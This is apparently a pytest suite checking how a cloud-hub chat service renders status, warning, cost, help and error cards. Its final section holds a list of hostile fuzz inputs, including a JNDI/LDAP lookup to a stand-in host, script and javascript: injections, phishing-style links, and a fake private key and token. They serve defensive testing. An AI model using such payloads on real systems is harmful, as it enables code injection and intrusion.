"""What a state, a warning, a list, an error looks like in words."""

import ast
import json
import re
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from shared.api.problems import CODES, Mistake
from shared.chat import cards, command_cards, error_cards, notice_cards
from shared.chat.card import Button, Card, Tone, Verb
from shared.chat.grammar import Misread, Order
from shared.errors import FatalError, RetryableError, UserError
from shared.hubs import words
from shared.hubs.agenda import Rules
from shared.hubs.meter import Billing, Meter
from shared.hubs.model import Condition, Hub, Idle, Life, Notice, Reason, Rung, Schedule, StepName, StepRecord
from shared.hubs.ports import ChatUser
from shared.hubs.states import Goal, HubState
from tests.support.builders import a_hub, a_notice, a_ready_hub, a_schedule, a_spec, a_stopped_hub, some_settings
from tests.support.clock import MONDAY_MORNING

ROOT = Path(__file__).resolve().parents[3]
RULES = Rules.of(some_settings())
NOW = MONDAY_MORNING + timedelta(hours=1)
BERLIN_STOP = datetime(2026, 3, 2, 18, 0, tzinfo=UTC)
"""19:00 in Berlin."""


def scheduled(**changes: object) -> Hub:
    """Ready, and stopped at 19:00 in Berlin."""
    return a_ready_hub(spec=a_spec(schedule=a_schedule()), **changes)


def everything(card: Card) -> list[str]:
    """All texts of a card."""
    facts = [text for fact in card.facts for text in (fact.label, fact.value)]
    buttons = [text for button in card.buttons for text in (button.label, button.confirm)]
    return [card.title, *card.lines, *facts, *card.code, *(stage.label for stage in card.stages), *buttons]


def fact(card: Card, label: str) -> str:
    (found,) = (fact.value for fact in card.facts if fact.label == label)
    return found


def button(card: Card, label: str) -> Button:
    (found,) = (one for one in card.buttons if one.label == label)
    return found


# ---- a hub


@pytest.mark.parametrize("state", HubState)
def test_every_state_has_words_and_a_card_for_all(state: HubState):
    goal = Goal.DELETED if state in (HubState.DELETING, HubState.DELETED) else Goal.RUNNING
    card = cards.hub_card(a_hub(state=state, goal=goal), RULES, NOW)
    assert card.title == f"physics: {words.STATES[state].lower()}"
    assert card.lines
    assert not card.private


def test_a_ready_hub_shows_address_stop_cost_and_three_buttons():
    card = cards.hub_card(scheduled(), RULES, NOW)
    assert card.tone is Tone.GOOD
    assert fact(card, "Address") == "http://physics-ab2cd3.eastus.cloudapp.azure.com/"
    assert fact(card, "Stops") == "19:00 (Europe/Berlin), by its schedule"
    assert fact(card, "Size") == "Standard_D2s_v3"
    assert [(one.label, one.verb, one.hub_id) for one in card.buttons] == [
        ("Open", None, ""),
        ("Admin login", Verb.LOGIN, "physics-ab2cd3"),
        ("Stop", Verb.STOP, "physics-ab2cd3"),
    ]
    assert button(card, "Open").url == "http://physics-ab2cd3.eastus.cloudapp.azure.com/"
    assert button(card, "Stop").confirm
    assert card.stages == ()


def test_a_ready_hub_says_how_people_get_in():
    card = cards.hub_card(scheduled(), RULES, NOW)
    assert "To let people in, sign in as jaydoe" in card.text
    assert "chooses a password" in card.text


def test_a_hub_with_people_says_that_they_can_sign_in():
    hub = a_ready_hub(spec=a_spec(users=("ana", "ben")))
    card = cards.hub_card(hub, RULES, NOW)
    assert card.lines[1].startswith("2 people can sign in; each chooses a password the first time.")
    assert "To let more in, sign in as jaydoe" in card.text


@pytest.mark.parametrize("state", set(HubState) - {HubState.READY})
def test_a_hub_that_nobody_can_reach_says_nothing_of_signing_in(state: HubState):
    assert "sign in as" not in cards.hub_card(a_hub(state=state), RULES, NOW).text


def test_a_stop_on_another_day_says_the_day_in_the_schedules_zone():
    plan = Schedule(time_zone="Asia/Tokyo", stop="07:00", days=("tue",))
    card = cards.hub_card(a_ready_hub(spec=a_spec(schedule=plan)), RULES, NOW)
    assert fact(card, "Stops") == "Tue 3 Mar, 07:00 (Asia/Tokyo), by its schedule"


def test_costs_are_per_hour_and_so_far():
    meter = Meter(billing=Billing.RUNNING, since=MONDAY_MORNING)
    card = cards.hub_card(a_ready_hub(meter=meter), RULES, MONDAY_MORNING + timedelta(hours=10))
    assert fact(card, "Cost") == "$0.1076 an hour now, $1.08 so far"


def test_a_hub_being_made_shows_every_stage_percent_and_time_left():
    steps = {
        StepName.GROUP: StepRecord(name=StepName.GROUP, started_at=MONDAY_MORNING, finished_at=MONDAY_MORNING),
        StepName.NETWORK: StepRecord(name=StepName.NETWORK, started_at=NOW),
    }
    card = cards.hub_card(a_hub(state=HubState.PROVISIONING, steps=steps), RULES, NOW)
    assert [stage.status for stage in card.stages] == ["done", "running", *["waiting"] * 9]
    assert [stage.label for stage in card.stages] == list(words.STEPS.values())
    assert re.search(r"about \d+ minutes left", card.text, re.I)
    assert card.buttons == ()


def test_a_failed_hub_says_why_what_to_do_and_what_to_send():
    reason = Reason(code="InstallFailed", message="pip could not find the package.", fix="Check its name.")
    steps = {StepName.INSTALL: StepRecord(name=StepName.INSTALL, started_at=NOW, last_error=reason)}
    card = cards.hub_card(a_hub(state=HubState.FAILED, reason=reason, steps=steps), RULES, NOW)
    assert card.tone is Tone.BAD
    assert card.lines == (reason.message, reason.fix)
    assert [stage.status for stage in card.stages if stage.label == words.STEPS[StepName.INSTALL]] == ["failed"]
    assert card.code == ("retry physics", "delete physics")
    assert card.buttons == ()


def test_a_stopped_hub_says_why_when_it_starts_and_has_a_button():
    card = cards.hub_card(a_stopped_hub(spec=a_spec(schedule=a_schedule())), RULES, NOW)
    assert card.lines[0] == "It was stopped as asked for."
    assert fact(card, "Starts") == "Tue 3 Mar, 08:30 (Europe/Berlin)"
    assert [one.verb for one in card.buttons] == [Verb.START]
    assert "Address" not in [one.label for one in card.facts]


def test_a_hub_being_deleted_offers_nothing():
    card = cards.hub_card(a_ready_hub(state=HubState.DELETING, goal=Goal.DELETED), RULES, NOW)
    assert (card.buttons, card.facts, card.stages) == ((), (), ())


def test_conditions_are_shown_as_notes_and_not_without_end():
    conditions = tuple(Condition(type=f"C{n}", message=f"Condition {n}.", since=NOW) for n in range(5))
    card = cards.hub_card(a_ready_hub(conditions=conditions), RULES, NOW)
    assert [line for line in card.lines if line.startswith("Note: ")] == [
        "Note: Condition 0.",
        "Note: Condition 1.",
        "Note: Condition 2.",
        "Note: 2 more are shown by the API.",
    ]


def test_size_and_region_are_what_the_hub_has_not_what_was_asked_for():
    hub = a_ready_hub()
    hub = replace(hub, place=replace(hub.place, rung=Rung(region="eastus2", size="Standard_D2as_v5", zone="2")))
    card = cards.hub_card(hub, RULES, NOW)
    assert (fact(card, "Size"), fact(card, "Region")) == ("Standard_D2as_v5", "eastus2, zone 2")


def test_a_zone_that_is_no_longer_known_is_utc():
    plan = Schedule(time_zone="Nowhere/Town", stop="19:00", days=("mon",))
    assert words.moment(BERLIN_STOP, plan, NOW) == "18:00 UTC"


@pytest.mark.parametrize(
    ("seconds", "said"),
    [
        (5, "less than a minute"),
        (60, "1 minute"),
        (360, "6 minutes"),
        (5400, "1 h 30 min"),
        (7200, "2 hours"),
        (3 * 86400, "3 days"),
    ],
)
def test_durations_are_said_as_one_says_them(seconds: float, said: str):
    assert words.duration(seconds) == said


# ---- notices


def warning(deadline: datetime = BERLIN_STOP, why: str = "schedule") -> Notice:
    return a_notice(data={"deadline": deadline.isoformat(), "why": why})


def told(kind: str, hub: Hub | None, now: datetime = NOW, **data: object) -> Card | None:
    notice = a_notice(type=f"io.hublet.hub.{kind}.v1", at=now, message="Something happened.", data=data)
    return notice_cards.notice_card(notice, hub, RULES, now)


def test_a_warning_has_the_hour_in_the_schedules_zone_and_three_buttons():
    card = notice_cards.notice_card(warning(), scheduled(), RULES, BERLIN_STOP - timedelta(minutes=15))
    assert card is not None
    assert card.title == "physics stops at 19:00 (Europe/Berlin)"
    assert card.lines == ("In 15 minutes, by its schedule.",)
    assert (card.tone, card.private) == (Tone.WARNING, False)
    assert [(one.label, one.verb) for one in card.buttons] == [
        ("Snooze 1 h", Verb.SNOOZE),
        ("Keep tonight", Verb.KEEP),
        ("Stop now", Verb.STOP),
    ]
    assert {(one.hub_id, one.deadline) for one in card.buttons} == {("physics-ab2cd3", "2026-03-02T18:00:00Z")}


def test_an_idle_warning_says_what_keeps_the_hub():
    idle = Life(cursor=NOW, idle=Idle(rule_minutes=60, no_server_since=NOW))
    hub = a_ready_hub(spec=a_spec(idle_minutes=60), life=idle)
    deadline = NOW + RULES.idle_warning
    card = notice_cards.notice_card(warning(deadline, "idle"), hub, RULES, NOW)
    assert card is not None
    assert "because nobody works on it" in card.lines[0]
    assert "starts a server" in card.lines[1]


@pytest.mark.parametrize(
    ("why", "hub", "now"),
    [
        ("the deadline has come", scheduled(), BERLIN_STOP),
        ("it is gone", None, NOW),
        ("it stops already", scheduled(state=HubState.STOPPING, goal=Goal.STOPPED), NOW),
        ("it was moved", scheduled(life=Life(cursor=NOW, keep_until=BERLIN_STOP + timedelta(hours=1))), NOW),
        ("it was called off", scheduled(life=Life(cursor=BERLIN_STOP, skipped_stop=BERLIN_STOP)), NOW),
        ("it has no schedule any more", a_ready_hub(), NOW),
        ("another hub has its name", replace(scheduled(), id="physics-zzzzzz"), NOW),
    ],
)
def test_a_warning_that_is_out_of_date_is_not_given(why: str, hub: Hub | None, now: datetime):
    assert notice_cards.notice_card(warning(), hub, RULES, now) is None


@pytest.mark.parametrize("deadline", [None, 7, "", "soon", "2026-03-02T18:00:00"])
def test_a_warning_without_a_readable_deadline_is_not_given(deadline: object):
    assert notice_cards.notice_card(a_notice(data={"deadline": deadline}), scheduled(), RULES, NOW) is None


def test_the_end_date_is_told_with_how_to_move_it():
    ends = NOW + timedelta(days=1)
    hub = a_ready_hub(spec=a_spec(expires_at=ends))
    card = told("ending-soon", hub, deadline=ends.isoformat(), why="expires")
    assert card is not None
    assert card.buttons == ()
    assert card.code[0].startswith("PATCH /api/hubs/physics ")
    assert "deleted" in card.lines[0]
    assert told("ending-soon", hub, ends, deadline=ends.isoformat()) is None
    moved = a_ready_hub(spec=a_spec(expires_at=ends + timedelta(days=9)))
    assert told("ending-soon", moved, deadline=ends.isoformat()) is None


FAILED = a_hub(state=HubState.FAILED, reason=Reason(code="X", message="It broke.", fix="Mend it."))
SHOWN = {kind: Condition(type=kind, message="m", since=NOW) for kind in ("ActionNeeded", "StopStuck", "DeletionStuck")}
DELETING = a_ready_hub(state=HubState.DELETING, goal=Goal.DELETED)

LIVE = [
    ("failed", FAILED, "physics failed"),
    ("start-failed", a_stopped_hub(), "physics could not be started"),
    ("stopped", a_stopped_hub(), "physics is stopped"),
    ("started", a_ready_hub(), "physics is ready again"),
    ("deleted", None, "physics is deleted"),
    ("capacity-changed", a_ready_hub(), "physics has another machine: Standard_D2s_v3 in eastus"),
    ("budget-nearly-spent", a_ready_hub(), "Your hubs have cost most of what they may cost this month"),
    (
        "action-needed",
        replace(DELETING, conditions=(SHOWN["ActionNeeded"],)),
        "physics: somebody must do something in Azure",
    ),
    ("stop-stuck", a_ready_hub(conditions=(SHOWN["StopStuck"],)), "physics: it cannot be turned off"),
    ("deletion-stuck", replace(DELETING, conditions=(SHOWN["DeletionStuck"],)), "physics: it cannot be deleted"),
]


@pytest.mark.parametrize(("kind", "hub", "title"), LIVE, ids=[kind for kind, _, _ in LIVE])
def test_what_somebody_must_notice_is_a_message_of_its_own(kind: str, hub: Hub | None, title: str):
    card = told(kind, hub)
    assert card is not None
    assert card.title == title
    assert not card.private


OVER: list[tuple[str, Hub | None]] = [
    ("failed", a_hub(state=HubState.PROVISIONING)),
    ("failed", None),
    ("start-failed", a_ready_hub()),
    ("stopped", a_ready_hub()),
    ("stopped", None),
    ("started", a_stopped_hub()),
    ("started", None),
    ("capacity-changed", None),
    ("capacity-changed", DELETING),
    ("action-needed", DELETING),
    ("stop-stuck", a_stopped_hub()),
    ("deletion-stuck", None),
    ("progress", a_hub()),
    ("ready", a_ready_hub()),
]


@pytest.mark.parametrize(("kind", "hub"), OVER)
def test_what_is_over_or_shown_elsewhere_is_not_said(kind: str, hub: Hub | None):
    assert told(kind, hub) is None


def test_a_size_that_is_not_the_present_one_any_more_is_not_said():
    assert told("capacity-changed", a_ready_hub(), size="STANDARD_D2S_V3") is not None
    assert told("capacity-changed", a_ready_hub(), size="Standard_D4s_v3") is None


def test_last_months_budget_is_not_said_in_this_month():
    notice = a_notice(type="io.hublet.hub.budget-nearly-spent.v1", at=NOW - timedelta(days=10))
    assert notice_cards.notice_card(notice, a_ready_hub(), RULES, NOW) is None


def test_a_kind_of_a_newer_release_is_told_as_it_is():
    card = told("moved-to-mars", a_ready_hub())
    assert card is not None
    assert card.lines == ("Something happened.",)


def kinds_emitted() -> Iterator[str]:
    """First arguments of `notify(...)` in the code: constants, and the constants that a name or a table stands for."""
    for path in sorted((ROOT / "shared").rglob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for call in ast.walk(tree):
            if not (isinstance(call, ast.Call) and isinstance(call.func, ast.Attribute) and call.func.attr == "notify"):
                continue
            first = call.args[0]
            meant = [first]
            if isinstance(first, ast.Name):
                meant = [
                    one.value
                    for one in ast.walk(tree)
                    if isinstance(one, ast.Assign) and any(ast.unparse(t) == first.id for t in one.targets)
                ]
                assert meant, f"{path}: what is {first.id}?"
            for expression in meant:
                values = (
                    expression.value.values
                    if isinstance(expression, ast.Subscript) and isinstance(expression.value, ast.Dict)
                    else [expression.body, expression.orelse]
                    if isinstance(expression, ast.IfExp)
                    else [expression]
                )
                for value in values:
                    assert isinstance(value, ast.Constant) and isinstance(value.value, str), ast.unparse(value)
                    yield value.value


def test_every_kind_the_code_emits_has_a_card_or_a_reason_for_none():
    emitted = set(kinds_emitted())
    assert {"stopping-soon", "ending-soon", "stop-stuck", "deletion-stuck", "ready"} <= emitted
    assert emitted == notice_cards.NOTICES.keys() | notice_cards.FOLLOWED.keys()


# ---- lists and costs


def test_a_list_has_one_line_for_each_hub():
    hubs = [scheduled(), a_stopped_hub(name="biology"), a_hub(name="maths", state=HubState.INSTALLING)]
    card = cards.list_card(hubs, RULES, NOW)
    assert card.title == "You have 3 hubs"
    assert len(card.lines) == 3
    assert card.lines[0].startswith("physics: ready · Standard_D2s_v3 in eastus · stops 19:00 (Europe/Berlin)")
    assert "physics-ab2cd3.eastus.cloudapp.azure.com" in card.lines[0]
    assert card.lines[1].startswith("biology: stopped")
    assert card.lines[2].startswith("maths: being installed · 0 %")


def test_no_hubs_is_an_invitation():
    card = cards.list_card([], RULES, NOW)
    assert card.code[0].startswith("create ")
    assert cards.cost_card([], NOW).title == "You have no hubs"


def test_a_long_list_is_cut():
    hubs = [a_ready_hub(name=f"hub{number}") for number in range(60)]
    assert cards.list_card(hubs, RULES, NOW).lines[-1] == "And 20 more."
    assert cards.cost_card(hubs, NOW).lines[-1] == "And 20 more."


def test_the_cost_of_all_is_their_sum():
    meter = Meter(billing=Billing.RUNNING, since=MONDAY_MORNING)
    hubs = [a_ready_hub(meter=meter), a_ready_hub(name="biology", meter=meter)]
    card = cards.cost_card(hubs, MONDAY_MORNING + timedelta(hours=10))
    assert card.title == "Your 2 hubs cost $0.2152 an hour now"
    assert fact(card, "So far") == "$2.16"  # each is rounded by itself, as it is shown
    assert "biology: $1.08 this month" in card.lines[1]


def test_a_hub_without_a_price_is_said_not_to_be_in_the_sum():
    hubs = [a_ready_hub(), a_ready_hub(name="biology", price=None)]
    assert "No price is known for 1 of them" in cards.cost_card(hubs, NOW).lines[-1]
    assert "no price" in cards.cost_card([a_ready_hub(price=None)], NOW).title


# ---- help, links, errors


def test_help_names_every_command_once_with_an_example():
    card = command_cards.help_card()
    for order in Order:
        assert sum(line.partition(" ")[0].rstrip(":") == order for line in card.lines) == 1, order
        assert any(line.partition(" ")[0] == order for line in card.code), order


def test_help_about_create_lists_its_options():
    card = command_cards.help_card(about=Order.CREATE)
    assert "zone=Europe/Berlin" in [one.label for one in card.facts]


def test_what_was_not_understood_is_said_with_what_may_have_been_meant():
    card = command_cards.misread_card(Misread("'lst' is no command.", "list"))
    assert (card.title, card.lines, card.code[0]) == ("'lst' is no command.", ("Did you mean list?",), "list")
    assert card.code[1:] == ("help",)
    assert len(command_cards.misread_card(Misread("'xyzzy' is no command.")).code) == len(Order)


def test_the_way_to_link_has_the_code_and_a_line_to_send():
    card = command_cards.link_card(ChatUser("slack", "T1", "U1"), "AB12CD34EF", 15, "https://hublet.example.org")
    assert card.private
    assert "15 minutes" in card.lines[0]
    assert "not linked" in card.title
    assert "the slack user U1 of team T1" in card.text  # for an administrator, whose token must not come with the code
    assert "https://hublet.example.org/api/chat/links" in card.code[0]
    assert '{"code": "AB12CD34EF"}' in card.code[0]


def test_who_is_linked_already_reads_to_whom_and_how_to_change_it():
    card = command_cards.link_card(ChatUser("slack", "T1", "U1"), "AB12CD34EF", 15, "", owner="jaydoe")
    assert card.title == "This chat account is linked to jaydoe"
    assert card.lines[0].startswith("To link it to somebody else, send this")


def test_an_error_says_what_and_what_next():
    card = error_cards.error_card(UserError("HubQuotaExceeded", "You have 10 hubs.", fix="Delete one."))
    assert (card.title, card.lines, card.tone) == ("You have 10 hubs.", ("Delete one.",), Tone.WARNING)
    bug = error_cards.error_card(FatalError("RowUnreadable", "A hub cannot be read: spec.size."))
    assert (bug.tone, "spec" in bug.text) == (Tone.BAD, False)
    busy = error_cards.error_card(RetryableError("Busy", "Busy.", retry_after_s=2))
    assert busy.lines == ("Try again in 1 minute.",)


@pytest.mark.parametrize("code", CODES)
def test_no_fix_speaks_of_routes_to_somebody_in_a_chat(code: str):
    fix = error_cards.fix_of(UserError(code, "No.", fix=CODES[code].fix))
    assert not re.search(r"\b(POST|GET|PUT)\b|`|/api/", fix)


@pytest.mark.parametrize(
    ("pointer", "option"),
    [
        ("/people", "people"),
        ("/schedule/stop", "stop"),
        ("/schedule/timeZone", "zone"),
        ("/schedule/days/0", "days"),
        ("/idleMinutes", "idle"),
        ("/expiresAt", "until"),
        ("/schedule", "start, stop, days"),
        ("/https/email", "https email"),
    ],
)
def test_the_apis_places_are_said_as_options(pointer: str, option: str):
    assert error_cards.mistake_words(Mistake(pointer, "InvalidValue", "No.")) == f"{option}: No."


def test_mistakes_are_told_once_and_not_without_end():
    card = command_cards.mistakes_card(Order.CREATE, ["a: no.", "b: no.", "a: no."])
    assert card.lines == ("a: no.", "b: no.")
    assert card.title.startswith("2 things")
    assert command_cards.mistakes_card(Order.CREATE, [f"{n}: no." for n in range(20)]).lines[-1] == "And 12 more."


# ---- whatever names and texts there are

HOSTILE = [
    "<!channel>",
    "<!everyone>",
    "<@U12345>",
    "<#C123|general>",
    "<https://evil.example|click me>",
    "@channel @here",
    "*bold* _it_ ~no~ `code`",
    "```\nblock\n```",
    "[click](https://evil.example)",
    "![img](https://evil.example/x.png)",
    "<at>Everyone</at>",
    "<script>alert(1)</script>",
    "&lt;b&gt;&amp;amp;",
    "{{DATE(2026-01-01,SHORT)}}",
    "${jndi:ldap://evil}",
    "{0} %s %n",
    "\"quoted\" 'single' \\back",
    '{"json": true}',
    "]]>",
    "line\nbreak",
    "tab\tand\r\nreturn",
    "null\x00byte",
    "bell\x07\x1b[31mred",
    "\u202eright to left",
    "\u2066isolate\u2069",
    "zero\u200bwidth\u200d",
    "soft\u00adhyphen",
    "\ufeffbom",
    "half \ud800 pair",
    "e" + "\u0301" * 200,
    "😀" * 500,
    "👩‍👩‍👧‍👦",
    "ﷺ" * 100,
    "х" * 40,  # Cyrillic
    "日本語" * 200,
    "עברית",
    " " * 50,
    "",
    "\u00a0",
    "-" * 200,
    "> quote",
    "# heading",
    "1. list",
    "| a | b |\n|---|---|",
    "javascript:alert(1)",
    "mailto:x@evil.example",
    "tel:+1234567890",
    "hlt_abcdefghijkl_secretsecretsecret",
    "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEA\n-----END OPENSSH PRIVATE KEY-----",
    "x" * 30_000,
]


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_no_text_breaks_a_card_or_is_without_end(text: str):
    assert len(HOSTILE) == 50
    reason = Reason(code="X", message=text, fix=text)
    condition = tuple(Condition(type=kind, message=text, since=NOW) for kind in SHOWN)
    hubs = [
        replace(hub, name=text, reason=reason, conditions=condition, url=text)
        for hub in (scheduled(), a_stopped_hub(), FAILED, a_hub(state=HubState.INSTALLING))
    ]
    made = [cards.hub_card(hub, RULES, NOW) for hub in hubs]
    made += [cards.list_card(hubs, RULES, NOW), cards.cost_card(hubs, NOW), cards.cost_card(hubs[:1], NOW)]
    for kind in (*notice_cards.NOTICES, "newer"):
        notice = a_notice(
            type=f"io.hublet.hub.{kind}.v1", hub_name=text, message=text, at=NOW, data={"deadline": text, "size": text}
        )
        made += [card for hub in hubs if (card := notice_cards.notice_card(notice, hub, RULES, NOW)) is not None]
    made += [
        error_cards.error_card(UserError(text, text, fix=text)),
        command_cards.help_card(text, try_this=text),
        command_cards.mistakes_card(Order.CREATE, [text] * 20),
        command_cards.linked_card(text),
    ]
    assert len(made) > 15
    for card in made:
        for said in everything(card):
            assert len(said) <= cards.MAX_LINE + 100, said[:80]
            assert said.isprintable()
            assert "secretsecret" not in said
            assert "b3BlbnNzaC1rZXk" not in said
        assert card.title.strip()


def test_no_card_shows_how_to_get_in():
    """The SSH command, keys and passwords are for the owner alone, by the API."""
    hub = scheduled(host_public_keys=("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKhost",))
    told = " ".join(everything(cards.hub_card(hub, RULES, NOW)))
    assert "ssh" not in told.lower()


def test_who_cannot_be_shown_a_code_is_told_the_ids_an_administrator_needs():
    user = ChatUser("teams", "66666666-7777", "11111111-2222")
    (line,) = command_cards.ask_admin_card(user, "https://hublet.example.org").code
    assert line.startswith("curl -X POST https://hublet.example.org/api/chat/links ")
    body = json.loads(line.partition("-d '")[2].removesuffix("'"))
    assert body == {"platform": "teams", "team": "66666666-7777", "user": "11111111-2222", "owner": "OWNER"}
